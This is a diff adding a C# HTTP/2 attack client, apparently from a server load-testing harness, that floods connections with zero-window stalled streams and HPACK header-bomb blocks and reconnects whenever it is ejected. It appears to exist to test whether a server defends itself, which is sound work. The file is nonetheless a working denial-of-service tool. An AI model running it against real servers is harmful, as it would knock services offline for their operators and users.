@@ -1,0 +1,144 @@
+using System.Buffers.Binary;
+using System.Globalization;
+using System.Net;
+using System.Net.Sockets;
+using System.Text;
+
+namespace Securely.Load;
+
+/// <summary>
+/// An HTTP/2 client that means harm, over cleartext with prior knowledge, on one connection at a time of each kind: many streams whose responses
+/// have no window, and header blocks that stand for megabytes (row A17). Whoever is thrown out comes back at once.
+/// </summary>
+internal sealed class AttackProcess(IPEndPoint server, string path, int streams)
+{
+    private const int BombBytes = 16_000;
+    private static readonly TimeSpan _pause = TimeSpan.FromMilliseconds(20);
+
+    private long _stalledConnections;
+    private long _stalledStreams;
+    private long _bombConnections;
+    private long _bombBlocks;
+
+    public static async Task<int> RunAsync(Options options)
+    {
+        var process = new AttackProcess(options.EndPoint("to"), options.Text("path", "/large"), options.Number("streams", 1_000));
+        new Thread(process.Obey) { IsBackground = true, Name = "control" }.Start();
+        Console.WriteLine("attack");
+        // As many as the server lets one connection have stay as long as it endures them; the others ask for more than that.
+        await Task.WhenAll(
+            process.RepeatAsync(() => process.StallAsync(100)), process.RepeatAsync(() => process.StallAsync(streams)), process.RepeatAsync(process.BombAsync));
+        return 0;
+    }
+
+    private async Task RepeatAsync(Func<Task> attack)
+    {
+        using var timer = new PeriodicTimer(_pause);
+        while (await timer.WaitForNextTickAsync())
+        {
+            try
+            {
+                await attack();
+            }
+            catch (Exception e) when (e is SocketException or IOException)
+            {
+                // Thrown out, which is what the server should do.
+            }
+        }
+    }
+
+    /// <summary>Requests whose responses may not be sent: INITIAL_WINDOW_SIZE is 0.</summary>
+    private async Task StallAsync(int count)
+    {
+        using var socket = await ConnectAsync([0, 4, 0, 0, 0, 0]);
+        Interlocked.Increment(ref _stalledConnections);
+        var reading = AnswerAsync(socket);
+        for (var id = 1; id < 2 * count; id += 2)
+        {
+            await socket.SendAsync(Frame(1, 5, id, [0x82, 0x86, 0x04, (byte)path.Length, .. Encoding.ASCII.GetBytes(path), 0x41, 1, (byte)'a']));
+            Interlocked.Increment(ref _stalledStreams);
+        }
+
+        await reading;
+    }
+
+    /// <summary>A field of 4,000 bytes in the table, and then blocks that name it again and again.</summary>
+    private async Task BombAsync()
+    {
+        using var socket = await ConnectAsync([]);
+        Interlocked.Increment(ref _bombConnections);
+        var reading = AnswerAsync(socket);
+        var value = new byte[4_000];
+        Array.Fill(value, (byte)'x');
+        // A literal with indexing: name x, and a length of 4000 as 127 and 3873.
+        await socket.SendAsync(Frame(1, 5, 1, [0x82, 0x86, 0x84, 0x41, 1, (byte)'a', 0x40, 1, (byte)'x', 0x7F, 0xA1, 0x1E, .. value]));
+        var block = new byte[BombBytes];
+        Array.Fill(block, (byte)0xBE);
+        for (var id = 3; !reading.IsCompleted; id += 2)
+        {
+            await socket.SendAsync(Frame(1, 5, id, block));
+            Interlocked.Increment(ref _bombBlocks);
+        }
+
+        await reading;
+    }
+
+    private async Task<Socket> ConnectAsync(byte[] settings)
+    {
+        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+        try
+        {
+            await socket.ConnectAsync(server);
+            await socket.SendAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
+            await socket.SendAsync(Frame(4, 0, 0, settings));
+            return socket;
+        }
+        catch (SocketException)
+        {
+            socket.Dispose();
+            throw;
+        }
+    }
+
+    /// <summary>Acknowledges settings and pings, so that the server has no other reason to end the connection, until it has ended.</summary>
+    private static async Task AnswerAsync(Socket socket)
+    {
+        await using var stream = new NetworkStream(socket, ownsSocket: false);
+        var head = new byte[9];
+        while (true)
+        {
+            await stream.ReadExactlyAsync(head);
+            var payload = new byte[(head[0] << 16) | (head[1] << 8) | head[2]];
+            await stream.ReadExactlyAsync(payload);
+            if (head[3] == 4 && (head[4] & 1) == 0)
+                await socket.SendAsync(Frame(4, 1, 0, []));
+            else if (head[3] == 6 && (head[4] & 1) == 0)
+                await socket.SendAsync(Frame(6, 1, 0, payload));
+        }
+    }
+
+    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
+    {
+        var frame = new byte[9 + payload.Length];
+        frame[0] = (byte)(payload.Length >> 16);
+        frame[1] = (byte)(payload.Length >> 8);
+        frame[2] = (byte)payload.Length;
+        frame[3] = type;
+        frame[4] = flags;
+        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
+        payload.CopyTo(frame, 9);
+        return frame;
+    }
+
+    private void Obey()
+    {
+        while (Console.ReadLine() is not null)
+        {
+            Console.WriteLine(string.Create(
+                CultureInfo.InvariantCulture,
+                $"stalled.connections={Interlocked.Read(ref _stalledConnections)} stalled.streams={Interlocked.Read(ref _stalledStreams)} bomb.connections={Interlocked.Read(ref _bombConnections)} bomb.blocks={Interlocked.Read(ref _bombBlocks)}"));
+        }
+
+        Environment.Exit(0);
+    }
+}
